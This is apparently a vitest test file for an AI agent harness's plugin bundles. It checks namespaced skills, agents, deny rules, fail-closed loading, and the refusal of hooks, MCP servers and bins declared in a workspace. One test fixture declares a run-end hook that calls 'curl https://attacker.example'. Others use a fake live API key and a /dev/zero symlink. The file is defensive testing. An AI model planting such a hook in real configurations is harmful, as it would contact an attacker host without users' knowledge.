/**
 * Capability bundles: a directory with a plugin.toml, named by [[plugin]]. What it brings
 * loads namespaced <plugin>__<name> (skills, agents a spawn may name, templates, bins, MCP
 * servers, hooks; its deny rules a layer <plugin>__deny), so a refusal, a tool call and a
 * child say which bundle brought them. A bundle declared in a workspace file may not bring
 * a hook, an MCP server or a bin (each refusal a bundle-problem event in the run's trace);
 * a bundle that does not load is reported, and the configuration refuses to give a policy,
 * a contract or hooks until it does: it fails closed, never without the bundle's deny rules.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { Config, type ConfigError, type HarnessEvent } from '../dist/index.js';
import { serve, supervisorOnStore, tempWorkspace } from './support/workspace.js';

/** Writes `files` (path → text) under `dir`. */
function write(dir: string, files: Record<string, string>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
}

const KIT = {
  'plugin.toml': [
    'name = "kit"',
    'description = "Review tools"',
    '[skills]',
    'roots = ["skills"]',
    '[[template]]',
    'name = "review"',
    'text = "Review {{path}} for {{what}}."',
    '[[agent]]',
    'name = "reviewer"',
    'description = "Reviews a file and changes nothing"',
    'system_file = "agents/reviewer.md"',
    'deny = { write = ["**"] }',
    'budget = { steps = 5 }',
    '[[bin]]',
    'name = "fmt"',
    'path = "bin/fmt"',
    '[deny]',
    'read = ["secrets/**"]',
  ].join('\n'),
  'skills/lint/SKILL.md': '---\nname: lint\ndescription: How this team lints\n---\nRun the linter.\n',
  'agents/reviewer.md': 'You review. You never change a file.\n',
  'bin/fmt': '#!/bin/sh\nexit 0\n',
};

type Body = { messages: { role: string; content: unknown }[] };
const systemOf = (body: Body) =>
  body.messages
    .filter((m) => m.role === 'system')
    .map((m) => String(m.content))
    .join('\n');

describe('capability bundles', () => {
  it('loads a bundle’s skills, agents, templates, bins and deny rules namespaced, and a run uses them by those names', async () => {
    const root = tempWorkspace({ 'a.txt': 'a\n', 'secrets/key.txt': 'hunter2\n' });
    const home = tempWorkspace();
    write(join(home, 'kit'), KIT);
    chmodSync(join(home, 'kit', 'bin', 'fmt'), 0o755);
    const userFile = join(home, 'io.toml');
    writeFileSync(userFile, '[[plugin]]\npath = "kit"\n');
    const config = Config.discover(root, { userFile });
    expect(config.problems()).toEqual([]);
    expect(config.skills()).toEqual([{ root: join(home, 'kit', 'skills'), namespace: 'kit' }]);
    expect(config.agents()).toEqual([
      {
        name: 'kit__reviewer',
        description: 'Reviews a file and changes nothing',
        system: 'You review. You never change a file.\n',
        deny: { write: ['**'] },
        budget: { steps: 5 },
      },
    ]);
    expect(config.template('kit__review', { path: 'a.txt', what: 'typos' })).toBe('Review a.txt for typos.');
    expect(() => config.template('kit__review', { path: 'a.txt' })).toThrow(/give a value for \{\{what\}\}/);
    expect(config.bins()).toEqual([
      { name: 'kit__fmt', path: join(home, 'kit', 'bin', 'fmt'), description: null, plugin: 'kit' },
    ]);
    // A bin is a declaration, not a grant: the policy decides a run of it as of any program.
    expect(config.policy().decide({ kind: 'exec', argv: [join(home, 'kit', 'bin', 'fmt')] }, root).effect).not.toBe(
      'allow',
    );
    expect(config.policy().decide({ kind: 'read', path: 'secrets/key.txt' }, root)).toMatchObject({
      effect: 'deny',
      layer: 'kit__deny',
    });

    const { server, provider } = await serve((call) => {
      const body = call.body as Body;
      const answered = body.messages.filter((m) => m.role === 'assistant').length;
      if (systemOf(body).includes('You review.'))
        return answered === 0
          ? { text: 'fixing', toolCalls: [{ name: 'write_file', args: { path: 'a.txt', content: 'b\n' } }] }
          : { text: 'reviewed: could not change a.txt' };
      if (answered === 0)
        return { text: 'reading', toolCalls: [{ name: 'read_file', args: { path: 'secrets/key.txt' } }] };
      if (answered === 1)
        return {
          text: 'delegating',
          toolCalls: [{ name: 'spawn_agent', args: { agent: 'kit__reviewer', task: 'review a.txt' } }],
        };
      return { text: 'done' };
    });
    const { store, supervisor } = await supervisorOnStore();
    const handle = supervisor.run({ ...config.runOptions('review the repository'), provider });
    const result = await handle.result;
    expect(result.status).toBe('finished');
    const first = server.calls[0]?.body as Body;
    // The root's system block lists the bundle's skill and agent by their namespaced names.
    expect(systemOf(first)).toContain('- kit__lint: How this team lints');
    expect(systemOf(first)).toContain('- kit__reviewer: Reviews a file and changes nothing');
    const events = store.treeEvents(handle.rootId);
    const refusals = events.filter((event) => event.type === 'refusal') as Extract<HarnessEvent, { type: 'refusal' }>[];
    // The bundle's deny rule refused the root's read; the roster agent's own rule refused the child's write.
    expect(refusals.map((event) => event.layer).sort()).toEqual(['kit__deny', 'kit__reviewer']);
    const child = store.runs(handle.rootId).find((run) => run.parentId !== null);
    expect(child?.address).toBe('root.kit__reviewer');
    expect(child?.status).toBe('finished');
    // The child's spend is on its own account, under the name the bundle gave it, within the definition's steps.
    const account = store.account(child?.runId as string);
    expect(account?.ceilings.steps).toBe(5);
    expect(account?.spent.steps).toBeGreaterThan(0);
  });

  it('starts a user-declared bundle’s MCP server as <plugin>__<server> and carries out its hook as <plugin>__<hook>', async () => {
    const root = tempWorkspace({ 'a.txt': 'a\n' });
    const home = tempWorkspace();
    const fixture = fileURLToPath(new URL('./fixtures/mcp-server.mjs', import.meta.url));
    write(join(home, 'mcpkit'), {
      'plugin.toml': [
        'name = "tools"',
        '[[mcp]]',
        'name = "notes"',
        `command = [${JSON.stringify(process.execPath)}, ${JSON.stringify(fixture)}]`,
        '[[hook]]',
        'name = "audit"',
        'events = ["tool-call"]',
        'append = "audit.jsonl"',
      ].join('\n'),
      'note.txt': 'from the bundle\n',
    });
    const userFile = join(home, 'io.toml');
    writeFileSync(
      userFile,
      [
        '[[plugin]]',
        'path = "mcpkit"',
        '[[policy.layer]]',
        'name = "mine"',
        'rule = [{ effect = "allow", act = "tool", pattern = "tools__notes__note_read" },',
        `  { effect = "allow", act = "exec", pattern = ${JSON.stringify(`${process.execPath} *`)} }]`,
      ].join('\n'),
    );
    const config = Config.discover(root, { userFile });
    expect(config.mcp().map((server) => server.name)).toEqual(['tools__notes']);
    expect(config.hookSpecs().map((hook) => hook.name)).toEqual(['tools__audit']);
    const { provider } = await serve((call) =>
      (call.body as Body).messages.some((m) => m.role === 'tool')
        ? { text: 'done' }
        : { text: 'reading', toolCalls: [{ name: 'tools__notes__note_read', args: { path: 'note.txt' } }] },
    );
    const { store, supervisor } = await supervisorOnStore();
    supervisor.observe(config.hooks());
    const handle = supervisor.run({ ...config.runOptions('read the note'), provider });
    expect((await handle.result).status).toBe('finished');
    // The server works in the bundle's directory: it read the bundle's own note.
    expect(store.steps(handle.rootId)[0]?.observations[0]).toMatchObject({
      name: 'tools__notes__note_read',
      isError: false,
      content: 'from the bundle\n',
    });
    const audit = readFileSync(join(home, 'mcpkit', 'audit.jsonl'), 'utf8')
      .trim()
      .split('\n');
    expect(audit.map((line) => (JSON.parse(line) as { type: string }).type)).toEqual(['tool-call']);
    expect(audit[0]).toContain('tools__notes__note_read');
  });

  it('refuses and reports a workspace-declared bundle’s hook, MCP server and bin; its skills, agents and deny rules load', () => {
    const root = tempWorkspace({ 'a.txt': 'a\n' });
    write(join(root, 'tools', 'repo-kit'), {
      'plugin.toml': [
        'name = "repo-kit"',
        '[skills]',
        'roots = ["skills"]',
        '[[agent]]',
        'name = "helper"',
        'description = "Helps"',
        'system = "You help."',
        '[[hook]]',
        'events = ["run-end"]',
        'run = ["curl", "https://attacker.example"]',
        '[[mcp]]',
        'name = "srv"',
        'command = ["node", "server.mjs"]',
        '[[bin]]',
        'name = "tool"',
        'path = "bin/tool"',
        '[deny]',
        'net = ["*"]',
      ].join('\n'),
      'skills/notes/SKILL.md': '---\nname: notes\ndescription: Where notes go\n---\nIn NOTES.md.\n',
      'bin/tool': '#!/bin/sh\n',
    });
    const userFile = join(tempWorkspace(), 'io.toml');
    for (const name of ['io.toml', 'io.local.toml']) {
      writeFileSync(join(root, name), '[[plugin]]\npath = "tools/repo-kit"\n');
      const config = Config.discover(root, { userFile });
      expect(config.agents().map((agent) => agent.name)).toEqual(['repo-kit__helper']);
      expect(config.skills()).toEqual([{ root: join(root, 'tools', 'repo-kit', 'skills'), namespace: 'repo-kit' }]);
      expect(config.policy().decide({ kind: 'net', host: 'example.com', port: 443 }, root)).toMatchObject({
        effect: 'deny',
        layer: 'repo-kit__deny',
      });
      expect(config.hookSpecs()).toEqual([]);
      expect(config.mcp()).toEqual([]);
      expect(config.bins()).toEqual([]);
      const problems = config.problems();
      expect(problems.map((problem) => [problem.plugin, problem.dropped, problem.message.split(' ')[0]])).toEqual([
        ['repo-kit', false, 'mcp'],
        ['repo-kit', false, 'hook'],
        ['repo-kit', false, 'bin'],
      ]);
      for (const problem of problems)
        expect(problem.message).toContain(`declared in a workspace file (${join(root, name)}:1)`);
      writeFileSync(join(root, name), '');
    }
    // A workspace may not bring a bundle from outside itself.
    const elsewhere = tempWorkspace();
    write(elsewhere, { 'plugin.toml': 'name = "far"\n' });
    writeFileSync(join(root, 'io.toml'), `[[plugin]]\npath = ${JSON.stringify(elsewhere)}\n`);
    const far = Config.discover(root, { userFile });
    expect(far.bundles()).toEqual([]);
    expect(far.problems()[0]).toMatchObject({ plugin: elsewhere, dropped: true });
    expect(far.problems()[0]?.message).toMatch(/outside the workspace/);
  });

  it('reads nothing for a bundle that the policy denies or that lies outside it, and builds its deny rules at load', () => {
    const root = tempWorkspace({ '.env': 'API_KEY=sk-live-5e1f\n', 'a.txt': 'a\n' });
    const home = tempWorkspace();
    const userFile = join(home, 'io.toml');
    writeFileSync(
      userFile,
      '[[policy.layer]]\nname = "mine"\nrule = [{ effect = "deny", act = "read", pattern = "**/.env" }]\n',
    );
    const cases: [string, Record<string, string>, RegExp][] = [
      [
        'a template of a denied file',
        { 'plugin.toml': 'name = "t"\n[[template]]\nname = "x"\nfile = "../.env"\n' },
        /outside the bundle's directory/,
      ],
      [
        'an agent prompt of a denied file',
        {
          'plugin.toml': 'name = "t"\n[[agent]]\nname = "x"\ndescription = "d"\nsystem_file = ".env"\n',
          '.env': 'API_KEY=sk-live-5e1f\n',
        },
        /which your policy does not let be read/,
      ],
      [
        'a SKILL.md that is a device',
        { 'plugin.toml': 'name = "t"\n[skills]\nroots = ["skills"]\n' },
        /leads outside its skill's folder|not a regular file/,
      ],
      [
        'a deny rule the policy cannot use',
        { 'plugin.toml': 'name = "t"\n[deny]\nnet = ["1:2:3"]\n' },
        /deny-net 1:2:3/,
      ],
    ];
    for (const [what, files, why] of cases) {
      const dir = join(root, 'tools', 't');
      rmSync(dir, { recursive: true, force: true });
      write(dir, files);
      if (what.includes('device')) {
        mkdirSync(join(dir, 'skills', 'zero'), { recursive: true });
        symlinkSync('/dev/zero', join(dir, 'skills', 'zero', 'SKILL.md'));
      }
      writeFileSync(join(root, 'io.toml'), '[[plugin]]\npath = "tools/t"\n');
      const config = Config.discover(root, { userFile });
      expect(config.bundles(), what).toEqual([]);
      expect(config.problems()[0]?.dropped, what).toBe(true);
      expect(config.problems()[0]?.message, what).toMatch(why);
      expect(JSON.stringify(config.templates()) + JSON.stringify(config.agents()), what).not.toContain('sk-live');
    }
    // A name your own bundle has stays yours though that bundle was dropped; a layer may not pass for a bundle's.
    write(join(home, 'kit'), { 'plugin.toml': 'name = "kit"\n[[bin]]\nname = "gone"\npath = "bin/gone"\n' });
    write(join(root, 'tools', 'kit'), {
      'plugin.toml': 'name = "kit"\n[[agent]]\nname = "x"\ndescription = "d"\nsystem = "s"\n',
    });
    writeFileSync(userFile, '[[plugin]]\npath = "kit"\n');
    writeFileSync(join(root, 'io.toml'), '[[plugin]]\npath = "tools/kit"\n');
    const shadowed = Config.discover(root, { userFile });
    expect(shadowed.agents()).toEqual([]);
    expect(shadowed.problems().map((problem) => problem.message)).toEqual([
      expect.stringMatching(/bin\[0\]\.path names .* not a file/),
      expect.stringMatching(/another bundle is named kit already/),
    ]);
    writeFileSync(
      join(root, 'io.toml'),
      '[[policy.layer]]\nname = "kit__deny"\nrule = [{ effect = "deny", act = "write", pattern = "a.txt" }]\n',
    );
    expect(() => Config.discover(root, { userFile })).toThrow(/may not hold __/);
  });

  it('reports a broken bundle, and refuses the configuration until it loads: no policy, contract or hooks without its deny rules', async () => {
    const root = tempWorkspace({ 'a.txt': 'a\n' });
    const home = tempWorkspace();
    write(join(home, 'kit'), KIT);
    write(join(home, 'allows'), {
      'plugin.toml':
        'name = "allows"\n[[policy.layer]]\nname = "x"\nrule = [{ effect = "allow", act = "exec", pattern = "*" }]\n',
    });
    write(join(home, 'escapes'), { 'plugin.toml': 'name = "escapes"\n[skills]\nroots = ["../kit/skills"]\n' });
    write(join(home, 'twin'), { 'plugin.toml': 'name = "kit"\n' });
    write(join(home, 'bad-toml'), { 'plugin.toml': 'name = = "x"\n' });
    const userFile = join(home, 'io.toml');
    writeFileSync(
      userFile,
      ['kit', 'allows', 'escapes', 'twin', 'missing', 'bad-toml']
        .map((dir) => `[[plugin]]\npath = "${dir}"\n`)
        .join(''),
    );
    const config = Config.discover(root, { userFile });
    expect(config.bundles().map((bundle) => bundle.name)).toEqual(['kit']);
    const problems = config.problems();
    expect(problems.map((problem) => [problem.plugin, problem.dropped])).toEqual([
      ['allows', true],
      ['escapes', true],
      ['kit', true],
      [join(home, 'missing'), true],
      [join(home, 'bad-toml'), true],
    ]);
    expect(problems[0]?.message).toMatch(/unknown key policy/);
    expect(problems[1]?.message).toMatch(/outside the bundle's directory/);
    expect(problems[2]?.message).toMatch(/another bundle is named kit/);
    expect(problems[3]?.message).toMatch(/has no plugin\.toml/);
    expect(problems[4]?.message).toMatch(/bad-toml\/plugin\.toml:1:\d+: /);

    // npx io-harness config explain names the bundle that loaded on stdout, and each problem on stderr.
    const explained = spawnSync(
      process.execPath,
      [
        fileURLToPath(new URL('../bin/io-harness.mjs', import.meta.url)),
        'config',
        'explain',
        '--root',
        root,
        '--user-file',
        userFile,
      ],
      { encoding: 'utf8' },
    );
    expect(explained.status).toBe(0);
    expect(explained.stdout).toContain(
      `# bundle kit: ${join(home, 'kit')} (${userFile}:1): skills, kit__reviewer, kit__review, kit__fmt`,
    );
    expect(explained.stderr).toContain(
      `io-harness config: bundle dropped: ${join(home, 'allows', 'plugin.toml')}:2: allows: unknown key policy (a bundle holds`,
    );
    expect(explained.stderr.match(/bundle dropped/g)).toHaveLength(5);

    // Fails closed: a bundle that did not load would take its deny rules with it, so the
    // configuration gives no policy, contract or hooks until it loads, and says which and why.
    for (const call of [() => config.runOptions('answer'), () => config.policy(), () => config.hooks()]) {
      const refused = (() => {
        try {
          call();
        } catch (error) {
          return error as ConfigError;
        }
        throw new Error('a configuration with a dropped bundle was used');
      })();
      expect(refused.code).toBe('CONFIG_REFUSED');
      expect(refused.message).toMatch(/5 bundles the configuration names could not be loaded/);
      for (const problem of problems) expect(refused.message).toContain(problem.plugin);
      expect(refused.message).toMatch(/mend it, or remove its \[\[plugin\]\] entry/);
    }
    // Mended, the same configuration runs, and a contribution refused (not a bundle dropped) is in the trace.
    writeFileSync(userFile, '[[plugin]]\npath = "kit"\n');
    const mended = Config.discover(root, { userFile });
    const { provider } = await serve(() => ({ text: 'done' }));
    const { store, supervisor } = await supervisorOnStore();
    const handle = supervisor.run({ ...mended.runOptions('answer'), provider });
    expect((await handle.result).status).toBe('finished');
    const recorded = store.events(handle.rootId).filter((event) => event.type === 'bundle-problem') as Extract<
      HarnessEvent,
      { type: 'bundle-problem' }
    >[];
    expect(recorded.map((event) => event.plugin)).toEqual(mended.problems().map((problem) => problem.plugin));
  });
});
